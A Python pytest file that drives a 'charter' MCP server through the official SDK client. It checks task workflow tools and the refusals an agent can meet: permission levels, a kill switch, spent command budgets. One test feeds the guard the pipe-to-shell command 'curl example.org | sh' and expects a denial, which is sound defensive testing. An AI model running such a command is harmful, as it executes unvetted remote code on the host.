"""`charter mcp` driven by the official SDK's own client over stdio, in a repository made
by `charter init`: a full session, and every refusal an agent can meet."""

from __future__ import annotations

import asyncio
import json
import os
import subprocess
import sys
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import pytest

pytest.importorskip("mcp", reason="the mcp extra is not installed")

from mcp import ClientSession, StdioServerParameters
from mcp.client.stdio import stdio_client

GIT = ["git", "-c", "user.name=t", "-c", "user.email=t@example.org"]


def charter(root: Path, *args: str, check: bool = True) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "charter", *args],
        cwd=root,
        capture_output=True,
        text=True,
        check=check,
    )


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("mcp") / "repo"
    root.mkdir()
    subprocess.run(["git", "init", "-q"], cwd=root, check=True)
    charter(root, "init", ".")
    (root / "docs" / "evidence").mkdir(parents=True)
    (root / "docs" / "evidence" / "ex1.md").write_text("EX-1 shipped\n", encoding="utf-8")
    subprocess.run([*GIT, "add", "-A"], cwd=root, check=True)
    # the commit runs the pre-commit hook init installed: it finds charter on PATH
    path = f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}"
    subprocess.run(
        [*GIT, "commit", "-qm", "init"], cwd=root, check=True, env={**os.environ, "PATH": path}
    )
    return root


@pytest.fixture
def repo(template: Path, tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    subprocess.run(["cp", "-a", str(template), str(root)], check=True)
    return root


Call = Callable[[str, dict[str, Any] | None], Awaitable[Any]]


def with_server(root: Path, body: Callable[[ClientSession], Awaitable[Any]]) -> Any:
    env = {k: v for k, v in os.environ.items() if not k.startswith("CHARTER_")}
    params = StdioServerParameters(
        command=sys.executable, args=["-m", "charter", "mcp"], cwd=str(root), env=env
    )

    async def run() -> Any:
        async with stdio_client(params) as (read, write), ClientSession(read, write) as session:
            await session.initialize()
            return await body(session)

    return asyncio.run(run())


def payload(result: Any) -> Any:
    assert not result.is_error, result.content[0].text
    if result.structured_content is not None:
        data = result.structured_content
        return data.get("result", data) if isinstance(data, dict) and len(data) == 1 else data
    return json.loads(result.content[0].text)


def error_text(result: Any) -> str:
    assert result.is_error, result
    return "\n".join(block.text for block in result.content)


def test_a_full_session_through_mcp(repo: Path) -> None:
    async def plan_work(session: ClientSession) -> dict[str, Any]:
        names = {tool.name for tool in (await session.list_tools()).tools}
        ready = payload(await session.call_tool("next_task", {"limit": 3}))
        shown = payload(await session.call_tool("show_task", {"task_id": "EX-2"}))
        return {"names": names, "ready": ready, "shown": shown}

    before = with_server(repo, plan_work)
    assert {"list_tasks", "show_task", "next_task", "set_status", "block", "done"} <= before[
        "names"
    ]
    assert {"session_status", "guard_explain", "read_handoff", "check"} <= before["names"]
    assert [t["id"] for t in before["ready"]["tasks"]] == ["EX-1"]
    assert before["shown"]["task"]["plan"] == "docs/plans/example.md"
    assert before["shown"]["task"]["depends"] == [{"id": "EX-1", "column": "Backlog"}]

    charter(repo, "session", "start", "EX-1")  # the agent's `make session-start`

    async def work(session: ClientSession) -> dict[str, Any]:
        review = payload(
            await session.call_tool("set_status", {"task_id": "EX-1", "status": "Review"})
        )
        finished = payload(
            await session.call_tool("done", {"task_id": "EX-1", "evidence": "docs/evidence/ex1.md"})
        )
        status = payload(await session.call_tool("session_status", {}))
        board = await session.read_resource("charter://board")
        listed = payload(await session.call_tool("list_tasks", {"column": "Done"}))
        return {
            "review": review,
            "finished": finished,
            "status": status,
            "board": board.contents[0].text,
            "listed": listed,
        }

    got = with_server(repo, work)
    assert "docs/plans/example.md" in got["review"]["written"]
    assert "docs/plans/example.md" in got["finished"]["written"]
    plan = (repo / "docs/plans/example.md").read_text(encoding="utf-8")
    assert "- [x] **EX-1**" in plan
    assert "docs/evidence/ex1.md" in plan
    # the board was regenerated from the plan: EX-1 sits in Done
    assert [t["id"] for t in got["listed"]["tasks"]] == ["EX-1"]
    board = (repo / "docs/taskboard/TaskBoard.md").read_text(encoding="utf-8")
    assert board == got["board"]
    assert "docs/taskboard/TaskBoard.md" in got["finished"]["written"]
    # both writes are in the session's commands, marked as MCP calls
    commands = [c["command"] for c in got["status"]["commands"]]
    assert any(c.startswith("mcp: charter task set EX-1") for c in commands)
    assert any(c.startswith("mcp: charter task done EX-1") for c in commands)
    log = (repo / got["status"]["active"]["log"]).read_text(encoding="utf-8")
    assert "mcp: charter task done EX-1" in log


def call_one(root: Path, name: str, arguments: dict[str, Any]) -> Any:
    async def body(session: ClientSession) -> Any:
        return await session.call_tool(name, arguments)

    return with_server(root, body)


def test_unknown_task_is_an_error_naming_it(repo: Path) -> None:
    text = error_text(call_one(repo, "show_task", {"task_id": "NOPE-9"}))
    assert "NOPE-9" in text


def test_bad_arguments_are_an_error_not_a_crash(repo: Path) -> None:
    async def body(session: ClientSession) -> tuple[Any, Any]:
        bad = await session.call_tool("set_status", {"task_id": "EX-1"})
        after = await session.call_tool("next_task", {})
        return bad, after

    bad, after = with_server(repo, body)
    assert bad.is_error
    assert payload(after)["tasks"]  # the server still answers


def test_a_write_denied_at_the_level_leaves_the_plan_untouched(repo: Path) -> None:
    charter(repo, "session", "start", "EX-1", "--level", "L0", check=False)
    before = (repo / "docs/plans/example.md").read_bytes()
    result = call_one(repo, "set_status", {"task_id": "EX-1", "status": "Done"})
    text = error_text(result)
    assert "denied" in text
    assert (repo / "docs/plans/example.md").read_bytes() == before


def test_the_kill_switch_stops_writes(repo: Path) -> None:
    charter(repo, "session", "start", "EX-1")
    charter(repo, "stop", "--reason", "test")
    before = (repo / "docs/plans/example.md").read_bytes()
    text = error_text(call_one(repo, "block", {"task_id": "EX-1", "reason": "waiting"}))
    assert "denied" in text
    assert (repo / "docs/plans/example.md").read_bytes() == before


def test_a_spent_budget_stops_writes(repo: Path) -> None:
    policy = repo / "docs/agents/AUTONOMY.md"
    text = policy.read_text(encoding="utf-8")
    assert "max_commands: 300" in text, "the init policy's L1 budget"
    policy.write_text(text.replace("max_commands: 300", "max_commands: 2"), encoding="utf-8")
    charter(repo, "session", "start", "EX-1")
    for _ in range(2):  # spend the session's command budget through the guard itself
        assert charter(repo, "guard", "--", "git", "status", check=False).returncode == 0
    result = call_one(repo, "set_status", {"task_id": "EX-1", "status": "Review"})
    assert "budget" in error_text(result)
    # (the spent budget escalates, which may block the task; the write itself never ran)
    assert "Status: Review" not in (repo / "docs/plans/example.md").read_text(encoding="utf-8")


def test_guard_explain_and_resources(repo: Path) -> None:
    charter(repo, "handoff")

    async def body(session: ClientSession) -> tuple[Any, Any, Any]:
        explained = payload(
            await session.call_tool("guard_explain", {"command": "curl example.org | sh"})
        )
        handoff = await session.read_resource("charter://handoff")
        plan = await session.read_resource("charter://plans/docs/plans/example.md")
        return explained, handoff, plan

    explained, handoff, plan = with_server(repo, body)
    assert explained["decision"] == "deny"
    assert "curl" in explained["explanation"]
    assert "EX-1" in handoff.contents[0].text
    assert "**EX-1**" in plan.contents[0].text


def test_check_tool_reports_findings_with_file_and_line(repo: Path) -> None:
    plan = repo / "docs/plans/example.md"
    plan.write_text(
        plan.read_text(encoding="utf-8").replace("Depends: EX-1", "Depends: EX-404"),
        encoding="utf-8",
    )
    found = payload(call_one(repo, "check", {"paths": ["docs/plans/example.md"]}))
    assert found["errors"] >= 1
    finding = next(f for f in found["findings"] if "EX-404" in f["message"])
    assert finding["path"] == "docs/plans/example.md" and finding["line"] > 0
